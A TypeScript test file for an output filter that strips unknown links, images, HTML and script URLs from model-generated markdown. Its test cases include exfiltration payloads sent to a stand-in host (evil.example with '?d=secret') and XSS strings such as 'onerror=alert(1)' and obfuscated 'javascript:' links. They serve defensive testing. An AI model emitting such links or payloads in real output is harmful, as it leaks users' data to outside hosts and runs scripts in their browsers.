import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { Lexer, type Token, walkTokens } from 'marked';
import { KnownAddresses } from './known.addresses.js';
import { OutputPolicy } from './output.policy.js';

const KNOWN = 'https://ada.example/notes?page=1';

function policy(): OutputPolicy {
  const addresses = new KnownAddresses({
    links: [{ label: 'Work', url: 'https://git.example/ada' }],
    contact: { label: 'Write', email: 'ada@example.com' },
  });
  addresses.read(`Her notes stand at ${KNOWN}. Mail grace@navy.example or look at www.loom.example.`);
  return new OutputPolicy(addresses);
}

function said(text: string): string {
  const one = policy();
  return one.push(text) + one.end();
}

describe('OutputPolicy', () => {
  it.each([
    ['a known address', `See [the notes](${KNOWN}).`, `See [the notes](${KNOWN}).`],
    ['a title of a link', `[notes](${KNOWN} "her notes")`, `[notes](${KNOWN})`],
    [
      'what lies under a link of the owner',
      'On [git](https://git.example/ada/engine?tab=1).',
      'On [git](https://git.example/ada/engine?tab=1).',
    ],
    ['a neighbour of a link of the owner', 'On [git](https://git.example/adam).', 'On git.'],
    ['a host the model made up', 'Press [here](https://evil.example/?d=secret) now.', 'Press here now.'],
    ['a known page with words added', `[x](${KNOWN}&d=secret)`, 'x'],
    ['a bare known address', `It is at ${KNOWN}.`, `It is at ${KNOWN}.`],
    ['a bare unknown address', 'Go to https://www.evil.example/?d=secret, please.', 'Go to evil.example, please.'],
    [
      'an address in pointed brackets',
      '<https://evil.example/?d=1> or <https://loom.example>',
      'evil.example or https://loom.example',
    ],
    ['a mail address of the owner', '[write](mailto:ada@example.com?body=secret)', '[write](mailto:ada@example.com)'],
    ['a mail address of nobody', '[write](mailto:eve@evil.example)', 'write'],
    ['a script', '[x](javascript:alert(1)) [y](java&#115;cript&colon;alert(1)) [z](data:text/html,x)', 'x y z'],
    ['a picture', 'Look: ![a cat](https://evil.example/?d=secret) nice.', 'Look:  nice.'],
    ['a picture in a link', `[![a](https://evil.example/b.png)](${KNOWN}) end`, ' end'],
    ['a picture by reference', '![cat][1]\n\n[1]: https://evil.example/?d=secret', '! [cat][1]\n\n[1] : evil.example'],
    ['HTML', 'a <img src=x onerror=alert(1)> b <b>c</b><script>d</script>', 'a  b c d'],
    ['HTML in HTML', '<<b>img src=x>', '< img src=x>'],
    ['HTML that does not close', 'a <img src="https://evil.example/?d=secret', 'a img src="evil.example'],
    ['a line break', 'one<br>two', 'one two'],
    ['comparisons', 'if a < b and 3 <4 then', 'if a < b and 3 <4 then'],
    ['code', 'Use `<img>` and `[x](y)`.', 'Use `<img>` and `[x](y)`.'],
    ['a code block', 'So:\n```html\n<img src="x">\n```\n<b>x</b>', 'So:\n```html\n<img src="x">\n```\nx'],
    ['numbers in brackets', 'As said [1], a[0] (first).', 'As said [1], a[0] (first).'],
    ['a word held together by markup', 'htt<b></b>ps://evil.example/?d=1', 'htt ps://evil.example/?d=1'],
  ])('%s', (_, text, expected) => {
    expect(said(text)).toBe(expected);
  });

  it('lets words go at once, and waits only for what is open', () => {
    const one = policy();
    expect(one.push('The engine')).toBe('The engine');
    expect(one.push(' weaves [patt')).toBe(' weaves ');
    expect(one.push('erns](https://evil.example)')).toBe('patterns');
    expect(one.push(', 2 <')).toBe(', 2 ');
    expect(one.push(' 3')).toBe('< 3');
  });

  it('begins a new paragraph after an end', () => {
    const one = policy();
    expect([one.push('One '), one.end(), one.push('```\n<b>\n```\n'), one.end(), one.push('<b>Two')]).toEqual([
      'One ',
      '',
      '\n\n```\n<b>\n```\n',
      '',
      '\nTwo',
    ]);
  });

  const fragment = fc.constantFrom(
    ...[
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '`',
      '``',
      '```',
      '~~~',
      '~',
      '\\',
      '\n',
      '\n\n',
      '\r',
      ' ',
      '  ',
      '\t',
      '|',
      '- ',
      '> ',
      '1. ',
      '&',
      ';',
    ],
    ...[
      'a',
      'img',
      'b',
      '</b>',
      '<b>',
      '<img src="https://evil.example/x">',
      '![x](https://evil.example/p)',
      '[x](https://evil.example/l)',
      '](',
      ']: ',
      ': ',
    ],
    ...[
      'https://evil.example/s',
      'http',
      's://',
      'www.',
      'evil.example',
      'javascript:x',
      KNOWN,
      `[n](${KNOWN})`,
      '"',
      "'",
      '\0',
      '<!--',
      '-->',
      '&#106;',
      '[1]: https://evil.example\n',
    ],
  );
  const text = fc.array(fragment, { maxLength: 24 }).map((parts) => parts.join(''));

  it('says the same however the text is cut', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat({ max: 6 }), { minLength: 1, maxLength: 40 }), (whole, cuts) => {
        const one = policy();
        let out = '';
        for (let at = 0, cut = 0; at < whole.length; cut++) {
          const next = at + cuts[cut % cuts.length]! + (cut >= cuts.length ? 1 : 0);
          out += one.push(whole.slice(at, next));
          at = next;
        }
        expect(out + one.end()).toBe(said(whole));
      }),
      { numRuns: 1_000 },
    );
  });

  it('shows no reader a picture, HTML or a strange link', () => {
    fc.assert(
      fc.property(text, text, (first, second) => {
        const one = policy();
        const out = one.push(first) + one.end() + one.push(second) + one.end();
        const strange: string[] = [];
        const look = (token: Token) => {
          if (token.type === 'image' || token.type === 'html') strange.push(token.raw);
          const isKnown = token.type === 'link' && [KNOWN, 'https://git.example/ada'].includes(token.href);
          if (token.type === 'link' && !isKnown) strange.push(token.raw);
        };
        walkTokens(new Lexer({ gfm: true }).lex(out), look);
        expect(strange).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});
